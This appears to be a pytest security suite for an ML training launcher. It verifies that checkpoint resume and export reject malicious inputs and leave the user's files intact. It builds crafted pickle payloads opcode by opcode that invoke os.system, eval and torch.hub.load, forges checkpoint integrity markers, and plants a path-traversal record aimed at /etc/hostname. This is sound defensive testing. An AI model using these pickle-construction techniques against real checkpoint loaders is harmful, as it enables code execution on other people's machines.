"""A checkpoint is data from a stranger, and an export folder may hold the user's files.

Crafted DCP `.metadata` pickles of several shapes (written here with raw pickle opcodes), placed in
a real checkpoint whose COMPLETE marker is re-recorded so that only the unpickler stands between
them and the shell, must run nothing on resume or export. Export must import nothing the
checkpoint's config names, and must never delete a file ringleader did not write.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import shlex
import shutil
import struct
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from safetensors.torch import load_file

from launcher.__main__ import main
from tests.checkpoint_tools import RunsCode, assert_same_tensors, log_of
from tests.conftest import ONE_RANK_JOB, ROOT, Run, launcher_env, run_launcher

JOB = ONE_RANK_JOB
DCP_META = "torch.distributed.checkpoint.metadata"
DCP_FS = "torch.distributed.checkpoint.filesystem"


# -- crafted pickles, opcode by opcode ----------------------------------------------------------------


def text(s: str) -> bytes:
    """BINUNICODE: a str pushed on the stack."""
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4): the unpickler resolves a dotted `name` attribute by attribute."""
    return text(module) + text(name) + b"\x93"


def global_op(module: str, name: str) -> bytes:
    """GLOBAL, the protocol-0 form; with PROTO 4 in front it resolves dotted names too."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(func: bytes, *args: bytes) -> bytes:
    """MARK args TUPLE REDUCE: func(*args)."""
    return func + b"(" + b"".join(args) + b"tR"


PROTO4, STOP = b"\x80\x04", b"."


def payloads(sentinel: Path) -> dict[str, bytes]:
    """Each, if unpickled without the allowlist, creates `sentinel` (or tries a torch function)."""
    cmd = f"touch {shlex.quote(str(sentinel))}"
    return {
        "dotted name in an allowed module (STACK_GLOBAL)": PROTO4 + call(stack_global(DCP_FS, "os.system"), text(cmd)) + STOP,
        "dotted name in an allowed module (GLOBAL)": PROTO4 + call(global_op(DCP_META, "os.system"), text(cmd)) + STOP,
        "os.system (GLOBAL)": call(global_op("os", "system"), text(cmd)) + STOP,
        "builtins.eval": call(global_op("builtins", "eval"), text(f"__import__('os').system({cmd!r})")) + STOP,
        "torch.load": PROTO4 + call(stack_global("torch", "load"), text(str(sentinel) + ".pt")) + STOP,
        "torch.hub.load (dotted torch attribute)": PROTO4 + call(stack_global("torch", "hub.load"), text("attacker/repo"), text("model")) + STOP,
        "command nested in an allowed class": PROTO4 + call(stack_global(DCP_META, "Metadata"), call(stack_global(DCP_FS, "os.system"), text(cmd))) + STOP,
        "persistent id": PROTO4 + text("x") + b"Q" + STOP,
        "__reduce__ of a pickled object": pickle.dumps(RunsCode(cmd)),
    }


SHAPES = list(payloads(Path("x")))


def plant(checkpoint: Path, relative: str, data: bytes) -> Path:
    """Replace a checkpoint file and re-record its size and CRC32 in COMPLETE, as an attacker can:
    the marker then passes, and only the reader's own checks stand in the way."""
    from trainer.durable import crc32_of

    path = checkpoint / relative
    path.write_bytes(data)
    marker = json.loads((checkpoint / "COMPLETE").read_text())
    marker["files"][relative] = {"size": path.stat().st_size, "crc32": crc32_of(path)}
    (checkpoint / "COMPLETE").write_text(json.dumps(marker))
    return path


def files_under(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


@pytest.fixture(scope="module")
def trained(one_rank_run: Run) -> Path:
    """A real 1-rank DDP run: checkpoints step-2 and step-4, final/ (the weights of step 4); made
    once per session (tests/conftest.py one_rank_run), read here or copied (copy_run)."""
    return one_rank_run.run_dir


def copy_run(trained: Path, tmp_path: Path) -> Path:
    run_dir = tmp_path / "run"
    shutil.copytree(trained, run_dir, ignore=shutil.ignore_patterns("exports"))
    return run_dir


def export_in_process(capsys, *args: str) -> tuple[int, str]:
    code = main(["export", *args])
    return code, capsys.readouterr().err.strip()


def assert_one_line_error(code: int, err: str, *expected: str) -> None:
    assert code == 2, err
    assert len(err.splitlines()) == 1 and err.startswith("ringleader: error: "), err
    for text_ in expected:
        assert text_ in err, err


# -- item 1: the metadata unpickler -------------------------------------------------------------------


@pytest.mark.parametrize("shape", SHAPES)
def test_metadata_unpickler_refuses_every_crafted_shape(shape, tmp_path):
    from trainer.safe_dcp import UnsafeCheckpointError, load_metadata

    sentinel = tmp_path / "code-ran"
    with pytest.raises(UnsafeCheckpointError) as info:
        load_metadata(payloads(sentinel)[shape], "crafted/.metadata")
    assert not sentinel.exists(), "the crafted metadata ran its command"
    assert not (tmp_path / "code-ran.pt").exists()
    message = str(info.value)
    assert message.startswith("crafted/.metadata: ") and "\n" not in message, message


def test_metadata_of_a_real_model_and_optimizer_save_still_loads(tmp_path):
    """The allowlist is exactly what DCP pickles: a model with float, bf16 and int64 tensors plus
    AdamW's state, saved by dcp.save, reads back through the safe reader."""
    import torch.distributed.checkpoint as dcp
    from torch.distributed.checkpoint.state_dict import get_state_dict

    from trainer.safe_dcp import SafeFileSystemReader
    from trainer.strategies.native import split_tensors

    model = torch.nn.Sequential(torch.nn.Linear(4, 4), torch.nn.BatchNorm1d(4))
    model.register_buffer("bf16_buffer", torch.zeros(2, dtype=torch.bfloat16))
    optimizer = torch.optim.AdamW(model.parameters())
    model(torch.randn(3, 4)).sum().backward()
    optimizer.step()
    tensors: dict[str, torch.Tensor] = {}
    split_tensors(dict(zip(("model", "optimizer"), get_state_dict(model, optimizer))), "", tensors)
    dcp.save(tensors, checkpoint_id=str(tmp_path), no_dist=True)
    metadata = SafeFileSystemReader(str(tmp_path)).read_metadata()
    assert set(metadata.state_dict_metadata) == set(tensors)


@pytest.mark.parametrize("shape", SHAPES)
def test_export_of_a_crafted_checkpoint_runs_nothing_and_writes_nothing(shape, trained, tmp_path, capsys):
    run_dir = copy_run(trained, tmp_path)
    checkpoint = run_dir / "checkpoints" / "step-4"
    sentinel = tmp_path / "code-ran"
    crafted = plant(checkpoint, "dcp/.metadata", payloads(sentinel)[shape])
    code, err = export_in_process(capsys, str(checkpoint))
    assert not sentinel.exists(), "the crafted metadata ran its command"
    assert_one_line_error(code, err, str(crafted))
    assert not (run_dir / "exports").exists()


def test_export_refuses_storage_records_that_point_outside_the_checkpoint(trained, tmp_path, capsys):
    """DCP joins each record's relative_path to the folder as it is: '../..' would read any file
    of the machine into the exported tensors."""
    from trainer.safe_dcp import load_metadata

    run_dir = copy_run(trained, tmp_path)
    checkpoint = run_dir / "checkpoints" / "step-4"
    metadata = load_metadata((checkpoint / "dcp" / ".metadata").read_bytes(), "real")
    for info in metadata.storage_data.values():
        info.relative_path = "../../../../../../etc/hostname"
    crafted = plant(checkpoint, "dcp/.metadata", pickle.dumps(metadata))
    code, err = export_in_process(capsys, str(checkpoint))
    assert_one_line_error(code, err, str(crafted), "not a shard file")
    assert not (run_dir / "exports").exists()


@pytest.mark.slow
def test_resume_of_crafted_checkpoints_runs_nothing(trained, tmp_path):
    """`train.resume=auto` into a run whose two checkpoints carry crafted metadata (two shapes):
    both are skipped naming the file, nothing runs, and the run stops with no usable checkpoint,
    saying so in one line that names the file."""
    run_dir = copy_run(trained, tmp_path)
    sentinel = tmp_path / "code-ran"
    crafted = {
        step: plant(run_dir / "checkpoints" / f"step-{step}", "dcp/.metadata", payloads(sentinel)[shape])
        for step, shape in ((4, "dotted name in an allowed module (STACK_GLOBAL)"), (2, "command nested in an allowed class"))
    }
    run = run_launcher(run_dir, *JOB, "train.max_steps=6", "train.resume=auto", "train.resume_with_changed_config=true", check=False)  # a longer run: a changed config
    assert not sentinel.exists(), "the crafted metadata ran its command"
    assert run.code != 0
    log = log_of(run_dir)
    for step, path in crafted.items():
        assert f"skipping checkpoint step {step}" in log and f"{path}: refusing to unpickle {DCP_FS}.os.system" in log, log[-3000:]
    # The launcher's own summary is one line naming the newest crafted file.
    summary = [line for line in run.output.splitlines() if line.startswith("ringleader: ") and "none of the 2 checkpoints" in line]
    assert summary and f"{crafted[4]}: refusing to unpickle" in summary[-1], run.output[-3000:]


# -- item 2: export imports nothing the checkpoint names -----------------------------------------------


def test_export_imports_nothing_named_in_the_checkpoint_config(trained, tmp_path):
    """The checkpoint's config.yaml names a model class in a module that creates a file when
    imported. `python -m launcher export` (a real process, the module on its path) writes the
    weights, equal to final/ of the run, and the module is never imported."""
    run_dir = copy_run(trained, tmp_path)
    checkpoint = run_dir / "checkpoints" / "step-4"
    sentinel = tmp_path / "imported"
    (tmp_path / "stranger_model.py").write_text(f"open({str(sentinel)!r}, 'w').close()\nclass Model:\n    def __init__(self, **kw):\n        open({str(sentinel)!r}, 'w').close()\n")
    config = (checkpoint / "config.yaml").read_text()
    assert "_target_: trainer.model.GPT" in config
    plant(checkpoint, "config.yaml", config.replace("_target_: trainer.model.GPT", "_target_: stranger_model.Model").encode())
    env = launcher_env(PYTHONPATH=f"{ROOT}{os.pathsep}{tmp_path}")
    proc = subprocess.run([sys.executable, "-m", "launcher", "export", str(checkpoint)], capture_output=True, text=True, cwd=tmp_path, env=env, timeout=120)
    assert not sentinel.exists(), "export imported the model module named in the checkpoint"
    assert proc.returncode == 0, proc.stderr
    out = run_dir / "exports" / "step-4"
    assert_same_tensors(load_file(str(out / "model.safetensors")), load_file(str(run_dir / "final" / "model.safetensors")))
    import yaml

    exported = yaml.safe_load((out / "config.yaml").read_text())
    assert exported["model"]["_target_"] == "stranger_model.Model"  # copied as data


# -- item 4: export deletes nothing it did not write ---------------------------------------------------


def test_export_refuses_a_folder_holding_the_users_files(trained, tmp_path, capsys):
    out = tmp_path / "mine"
    out.mkdir()
    (out / "thesis.tex").write_text("three years of work")
    code, err = export_in_process(capsys, str(trained / "checkpoints" / "step-4"), str(out))
    assert_one_line_error(code, err, "export OUT_DIR", str(out), "new or empty folder")
    assert files_under(out) == ["thesis.tex"] and (out / "thesis.tex").read_text() == "three years of work"


def test_export_refuses_the_current_folder(trained, tmp_path, capsys, monkeypatch):
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    (cwd / "notes.txt").write_text("keep")
    monkeypatch.chdir(cwd)
    code, err = export_in_process(capsys, str(trained / "checkpoints" / "step-4"), ".")
    assert_one_line_error(code, err, str(cwd))
    assert files_under(cwd) == ["notes.txt"]


@pytest.mark.parametrize("where", ["run directory", "checkpoint", "checkpoints folder", "inside checkpoints", "above the run", "a file"])
def test_export_refuses_the_run_its_checkpoints_and_folders_above(where, trained, tmp_path, capsys):
    run_dir = copy_run(trained, tmp_path)
    checkpoint = run_dir / "checkpoints" / "step-4"
    (tmp_path / "a-file").write_text("x")
    out = {
        "run directory": run_dir,
        "checkpoint": checkpoint,
        "checkpoints folder": run_dir / "checkpoints",
        "inside checkpoints": run_dir / "checkpoints" / "step-99",
        "above the run": tmp_path,
        "a file": tmp_path / "a-file",
    }[where]
    before = files_under(tmp_path)
    code, err = export_in_process(capsys, str(checkpoint), str(out))
    assert_one_line_error(code, err, "export OUT_DIR", str(out))
    assert files_under(tmp_path) == before


def test_re_export_into_an_earlier_export_replaces_only_its_own_files(trained, tmp_path, capsys):
    out = tmp_path / "export"
    code, err = export_in_process(capsys, str(trained / "checkpoints" / "step-2"), str(out))
    assert code == 0, err
    assert files_under(out) == [".ringleader-export", "config.yaml", "model.safetensors"]
    (out / "README.md").write_text("the user's notes")
    code, err = export_in_process(capsys, str(trained / "checkpoints" / "step-4"), str(out))
    assert code == 0, err
    assert files_under(out) == [".ringleader-export", "README.md", "config.yaml", "model.safetensors"]
    assert (out / "README.md").read_text() == "the user's notes"
    assert_same_tensors(load_file(str(out / "model.safetensors")), load_file(str(trained / "final" / "model.safetensors")))


def test_export_into_an_empty_folder(trained, tmp_path, capsys):
    out = tmp_path / "empty"
    out.mkdir()
    code, err = export_in_process(capsys, str(trained / "checkpoints" / "step-4"), str(out))
    assert code == 0, err
    assert files_under(out) == [".ringleader-export", "config.yaml", "model.safetensors"]


def test_final_keeps_files_the_user_put_there(tmp_path):
    """The end of a run rewrites final/: only model.safetensors, config.yaml and the marker."""
    from launcher.schema import RunConfig
    from trainer.export import save_consolidated

    final = tmp_path / "final"
    final.mkdir()
    (final / "model.safetensors").write_bytes(b"old")
    (final / "eval-notes.md").write_text("mine")
    save_consolidated(final, {"w": torch.ones(2)}, RunConfig())
    assert files_under(final) == [".ringleader-export", "config.yaml", "eval-notes.md", "model.safetensors"]
    assert torch.equal(load_file(str(final / "model.safetensors"))["w"], torch.ones(2))


# -- the export verb's arguments ---------------------------------------------------------------------


@pytest.mark.parametrize("case", ["missing", "a file", "no COMPLETE", "option"])
def test_export_bad_arguments_are_one_line_and_write_nothing(case, tmp_path, capsys):
    run_dir = tmp_path / "run"
    (run_dir / "checkpoints" / "step-3" / "dcp").mkdir(parents=True)
    (run_dir / "config.yaml").write_text("train:\n  output_dir: run\n")
    (run_dir / "checkpoints" / "step-9").write_text("not a folder")
    args, expected = {
        "missing": ([str(run_dir / "checkpoints" / "step-7")], "no such checkpoint folder"),
        "a file": ([str(run_dir / "checkpoints" / "step-9")], "is a file"),
        "no COMPLETE": ([str(run_dir / "checkpoints" / "step-3")], "no COMPLETE marker"),
        "option": ([str(run_dir / "checkpoints" / "step-3"), "--force"], "export needs a checkpoint folder"),
    }[case]
    before = files_under(tmp_path)
    code, err = export_in_process(capsys, *args)
    assert_one_line_error(code, err, expected)
    assert files_under(tmp_path) == before


# -- DeepSpeed checkpoints: DeepSpeed's own consolidation, every torch.load weights_only -------------

@pytest.fixture(scope="module")
def deepspeed_run(strategy_runs) -> Path:
    """A real ZeRO-2 run on 2 CPU ranks: checkpoints step-10 and step-20, final/ (the weights of
    step 20); tests/test_strategies.py's zero2 run (tests/conftest.py strategy_runs), read or copied."""
    run_dir = strategy_runs["zero2"].run_dir
    assert (run_dir / "checkpoints" / "step-20" / "deepspeed").is_dir()
    return run_dir


def export_process(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "launcher", "export", *args], capture_output=True, text=True, cwd=cwd, env=launcher_env(), timeout=180)


@pytest.mark.slow
def test_deepspeed_checkpoint_exports_the_weights_of_final(deepspeed_run, tmp_path):
    out = tmp_path / "out"
    proc = export_process(str(deepspeed_run / "checkpoints" / "step-20"), str(out), cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert files_under(out) == [".ringleader-export", "config.yaml", "model.safetensors"]
    assert_same_tensors(load_file(str(out / "model.safetensors")), load_file(str(deepspeed_run / "final" / "model.safetensors")))


@pytest.mark.slow
@pytest.mark.parametrize("relative", ["deepspeed/mp_rank_00_model_states.pt", "deepspeed/zero_pp_rank_1_mp_rank_00_optim_states.pt"])
def test_crafted_deepspeed_file_runs_nothing_on_export(relative, deepspeed_run, tmp_path):
    """DeepSpeed's zero_to_fp32 calls torch.load(weights_only=False): a file pickling a command,
    its marker re-recorded, must be refused in one line naming it."""
    run_dir = copy_run(deepspeed_run, tmp_path)
    checkpoint = run_dir / "checkpoints" / "step-20"
    sentinel = tmp_path / "code-ran"
    buffer = io.BytesIO()
    torch.save({"module": {}, "payload": RunsCode(f"touch {shlex.quote(str(sentinel))}")}, buffer)
    crafted = plant(checkpoint, relative, buffer.getvalue())
    proc = export_process(str(checkpoint), cwd=tmp_path)
    assert not sentinel.exists(), "the crafted DeepSpeed file ran its command"
    err = [line for line in proc.stderr.splitlines() if line.startswith("ringleader: ")]
    assert proc.returncode == 2 and len(err) == 1 and f"{crafted}: refusing to unpickle" in err[0], proc.stderr[-3000:]
    assert not (run_dir / "exports").exists()
